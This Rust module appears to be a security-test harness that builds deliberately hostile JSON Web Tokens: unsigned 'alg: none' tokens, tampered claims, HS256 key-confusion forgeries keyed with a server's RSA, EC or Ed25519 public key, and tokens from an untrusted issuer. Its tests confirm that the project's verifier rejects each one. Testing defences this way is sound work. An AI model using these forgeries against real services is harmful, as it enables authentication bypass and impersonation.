//! Hostile tokens for the attack scenarios (RFC 8725 §2.1): the one place
//! where JOSE is made by hand, because these tokens must be malformed on
//! purpose. Verifying a token is `fourleg_core::jose`'s job.

use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine as _;
use fourleg_core::jwt;
use hmac::{Hmac, Mac};
use rsa::pkcs8::EncodePublicKey as _;
use rsa::{BigUint, RsaPublicKey};
use serde_json::{json, Value};
use sha2::Sha256;

/// The issuer of forged "foreign" tokens: a name no target can trust.
pub const FOREIGN_ISSUER: &str = "https://untrusted-issuer.fourleg.invalid";

/// Why a forge could not be done (harness side).
#[derive(Debug, thiserror::Error)]
pub enum ForgeError {
    #[error("the source token is not a JWT: {0}")]
    NotJwt(#[from] jwt::DecodeError),
    #[error("the target's JWKS has no usable {0} key")]
    NoKey(&'static str),
    #[error("key material: {0}")]
    Key(String),
}

/// `alg: none`, same claims, empty signature.
#[must_use]
pub fn alg_none(claims: &Value) -> String {
    format!("{}.", jwt::encode_unsigned(&json!({"alg": "none", "typ": "JWT"}), claims))
}

/// Claims edited, original header and signature kept (so it cannot verify).
pub fn edit(original: &str, claims: &Value) -> Result<String, ForgeError> {
    let d = jwt::decode(original)?;
    let sig = original.rsplit('.').next().unwrap_or_default();
    Ok(format!("{}.{sig}", jwt::encode_unsigned(&d.header, claims)))
}

/// The first RSA signing key of a JWKS, as SPKI PEM (what a confused
/// verifier would use as an HMAC secret).
pub fn rsa_public_pem(jwks: &Value) -> Result<(String, Option<String>), ForgeError> {
    let key = signing_keys(jwks).find(|k| k["kty"] == "RSA").ok_or(ForgeError::NoKey("RSA"))?;
    let pk = rsa_key(key)?;
    let pem = pk.to_public_key_pem(rsa::pkcs8::LineEnding::LF).map_err(|e| ForgeError::Key(e.to_string()))?;
    Ok((pem, key["kid"].as_str().map(str::to_owned)))
}

/// The JWKS's keys that may sign (no `use`, or `use: sig`).
fn signing_keys(jwks: &Value) -> impl Iterator<Item = &Value> {
    jwks["keys"].as_array().into_iter().flatten().filter(|k| k["use"].as_str().is_none_or(|u| u == "sig"))
}

/// The first asymmetric signing key of a JWKS that the key-confusion attack
/// has a form for (RSA, EC P-256 or P-384, OKP Ed25519), as SPKI PEM: a
/// verifier that takes `alg` from the header and the key from its JWKS
/// would use these bytes as the HMAC secret, whatever the key's type.
pub fn public_pem(jwks: &Value) -> Result<(String, Option<String>), ForgeError> {
    use p256::pkcs8::EncodePublicKey as _;
    let lf = p256::pkcs8::LineEnding::LF;
    let pem_err = |e: p256::pkcs8::spki::Error| ForgeError::Key(e.to_string());
    for key in signing_keys(jwks) {
        let kid = key["kid"].as_str().map(str::to_owned);
        let pem = match (key["kty"].as_str(), key["crv"].as_str()) {
            (Some("RSA"), _) => rsa_key(key)?.to_public_key_pem(lf).map_err(pem_err)?,
            (Some("EC"), Some("P-256")) => {
                let point = ec_point(key)?;
                p256::PublicKey::from_sec1_bytes(&point)
                    .map_err(|e| ForgeError::Key(e.to_string()))?
                    .to_public_key_pem(lf)
                    .map_err(pem_err)?
            }
            (Some("EC"), Some("P-384")) => {
                let point = ec_point(key)?;
                p384::PublicKey::from_sec1_bytes(&point)
                    .map_err(|e| ForgeError::Key(e.to_string()))?
                    .to_public_key_pem(lf)
                    .map_err(pem_err)?
            }
            (Some("OKP"), Some("Ed25519")) => {
                let x: [u8; 32] = b64(&key["x"], "Ed25519")?
                    .try_into()
                    .map_err(|_| ForgeError::Key("an Ed25519 key is 32 bytes".into()))?;
                ed25519_dalek::VerifyingKey::from_bytes(&x)
                    .map_err(|e| ForgeError::Key(e.to_string()))?
                    .to_public_key_pem(lf)
                    .map_err(pem_err)?
            }
            _ => continue,
        };
        return Ok((pem, kid));
    }
    Err(ForgeError::NoKey("RSA, EC P-256/P-384 or Ed25519"))
}

/// An EC JWK's point, uncompressed SEC1 (`04 || x || y`).
fn ec_point(jwk: &Value) -> Result<Vec<u8>, ForgeError> {
    let mut point = vec![4u8];
    point.extend(b64(&jwk["x"], "EC")?);
    point.extend(b64(&jwk["y"], "EC")?);
    Ok(point)
}

fn b64(v: &Value, what: &'static str) -> Result<Vec<u8>, ForgeError> {
    URL_SAFE_NO_PAD.decode(v.as_str().ok_or(ForgeError::NoKey(what))?).map_err(|e| ForgeError::Key(e.to_string()))
}

fn rsa_key(jwk: &Value) -> Result<RsaPublicKey, ForgeError> {
    let n = BigUint::from_bytes_be(&b64(&jwk["n"], "RSA")?);
    let e = BigUint::from_bytes_be(&b64(&jwk["e"], "RSA")?);
    RsaPublicKey::new(n, e).map_err(|e| ForgeError::Key(e.to_string()))
}

/// HS256 keyed with the server's public key as SPKI PEM (key confusion,
/// RFC 8725 §2.1), for RSA, EC and Ed25519 keys alike.
pub fn hs256_with_public_key(claims: &Value, jwks: &Value) -> Result<String, ForgeError> {
    let (pem, kid) = public_pem(jwks)?;
    let mut header = json!({"alg": "HS256", "typ": "JWT"});
    if let Some(k) = kid {
        header["kid"] = Value::String(k);
    }
    let input = jwt::encode_unsigned(&header, claims);
    let mut mac = Hmac::<Sha256>::new_from_slice(pem.as_bytes()).map_err(|e| ForgeError::Key(e.to_string()))?;
    mac.update(input.as_bytes());
    Ok(jwt::with_signature(&input, &mac.finalize().into_bytes()))
}

/// ES256 by a fresh key the target never saw, with `iss` of an untrusted
/// issuer unless the claims set one.
#[must_use]
pub fn foreign_issuer(claims: &Value) -> String {
    use p256::ecdsa::signature::Signer as _;
    let key = p256::ecdsa::SigningKey::random(&mut rand::thread_rng());
    let mut claims = claims.clone();
    if claims.get("iss").is_none() {
        claims["iss"] = Value::String(FOREIGN_ISSUER.into());
    }
    let header = json!({"alg": "ES256", "typ": "JWT", "kid": "fourleg-foreign"});
    let input = jwt::encode_unsigned(&header, &claims);
    let sig: p256::ecdsa::Signature = key.sign(input.as_bytes());
    jwt::with_signature(&input, &sig.to_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn jwks_and_signer() -> (Value, rsa::RsaPrivateKey) {
        use rsa::traits::PublicKeyParts as _;
        let sk = rsa::RsaPrivateKey::new(&mut rand::thread_rng(), 1024).unwrap();
        let pk = sk.to_public_key();
        let jwks = json!({"keys": [{
            "kty": "RSA", "use": "sig", "kid": "k1", "alg": "RS256",
            "n": URL_SAFE_NO_PAD.encode(pk.n().to_bytes_be()),
            "e": URL_SAFE_NO_PAD.encode(pk.e().to_bytes_be()),
        }]});
        (jwks, sk)
    }

    /// A genuine token, signed through the JOSE core.
    fn rs256(claims: &Value, sk: &rsa::RsaPrivateKey) -> String {
        use fourleg_core::jose::{JwsAlg, LocalSigner, Signer as _};
        LocalSigner::rsa(JwsAlg::RS256, "k1", sk).unwrap().sign(claims).unwrap()
    }

    #[test]
    fn genuine_tokens_verify_and_every_forgery_does_not() {
        let (jwks, sk) = jwks_and_signer();
        let keys = fourleg_core::jose::Jwks::from_value(&jwks).unwrap();
        let claims = json!({"sub": "alice", "iss": "https://idp"});
        let good = rs256(&claims, &sk);
        assert!(keys.verify(&good).is_ok());
        assert!(keys.verify(&alg_none(&claims)).is_err());
        assert!(keys.verify(&hs256_with_public_key(&claims, &jwks).unwrap()).is_err());
        assert!(keys.verify(&foreign_issuer(&claims)).is_err());
        let edited = edit(&good, &json!({"sub": "mallory", "iss": "https://idp"})).unwrap();
        assert!(keys.verify(&edited).is_err());
    }

    #[test]
    fn forgeries_have_the_announced_shape() {
        let claims = json!({"sub": "alice"});
        let none = alg_none(&claims);
        assert!(none.ends_with('.'));
        assert_eq!(jwt::decode(&none).unwrap().header["alg"], "none");
        let foreign = jwt::decode(&foreign_issuer(&claims)).unwrap();
        assert_eq!(foreign.claims["iss"], FOREIGN_ISSUER);
        assert_eq!(foreign.header["alg"], "ES256");
    }

    /// An HS256 token's signature checks with `secret` as the HMAC key.
    fn hmac_verifies(token: &str, secret: &[u8]) -> bool {
        let (input, sig) = token.rsplit_once('.').unwrap();
        let mut mac = Hmac::<Sha256>::new_from_slice(secret).unwrap();
        mac.update(input.as_bytes());
        mac.verify_slice(&URL_SAFE_NO_PAD.decode(sig).unwrap()).is_ok()
    }

    #[test]
    fn key_confusion_adapts_to_ec_and_okp_keys() {
        use p256::pkcs8::EncodePublicKey as _;
        let lf = p256::pkcs8::LineEnding::LF;
        let claims = json!({"sub": "alice"});
        // P-256
        let ec = p256::SecretKey::random(&mut rand::thread_rng()).public_key();
        let point = p256::EncodedPoint::from(ec);
        let jwks = json!({"keys": [
            {"kty": "oct", "k": "c2VjcmV0"},
            {"kty": "EC", "crv": "P-256", "kid": "ec1", "use": "sig",
             "x": URL_SAFE_NO_PAD.encode(point.x().unwrap()), "y": URL_SAFE_NO_PAD.encode(point.y().unwrap())},
        ]});
        let t = hs256_with_public_key(&claims, &jwks).unwrap();
        assert!(hmac_verifies(&t, ec.to_public_key_pem(lf).unwrap().as_bytes()), "keyed with the P-256 SPKI PEM");
        assert_eq!(jwt::decode(&t).unwrap().header["kid"], "ec1");
        assert!(!hmac_verifies(&t, b"another key"));
        // P-384
        let ec = p384::SecretKey::random(&mut rand::thread_rng()).public_key();
        let point = p384::EncodedPoint::from(ec);
        let jwks = json!({"keys": [{"kty": "EC", "crv": "P-384",
            "x": URL_SAFE_NO_PAD.encode(point.x().unwrap()), "y": URL_SAFE_NO_PAD.encode(point.y().unwrap())}]});
        let t = hs256_with_public_key(&claims, &jwks).unwrap();
        assert!(hmac_verifies(&t, ec.to_public_key_pem(lf).unwrap().as_bytes()), "keyed with the P-384 SPKI PEM");
        // Ed25519
        let ed = ed25519_dalek::SigningKey::generate(&mut rand::rngs::OsRng).verifying_key();
        let jwks = json!({"keys": [{"kty": "OKP", "crv": "Ed25519", "kid": "ed", "x": URL_SAFE_NO_PAD.encode(ed.as_bytes())}]});
        let t = hs256_with_public_key(&claims, &jwks).unwrap();
        assert!(hmac_verifies(&t, ed.to_public_key_pem(lf).unwrap().as_bytes()), "keyed with the Ed25519 SPKI PEM");
        // Only an encryption key or a symmetric one: no form of the attack.
        let jwks = json!({"keys": [{"kty": "RSA", "use": "enc", "n": "AQAB", "e": "AQAB"}, {"kty": "oct", "k": "eA"}]});
        assert!(matches!(hs256_with_public_key(&claims, &jwks), Err(ForgeError::NoKey(_))));
    }
}
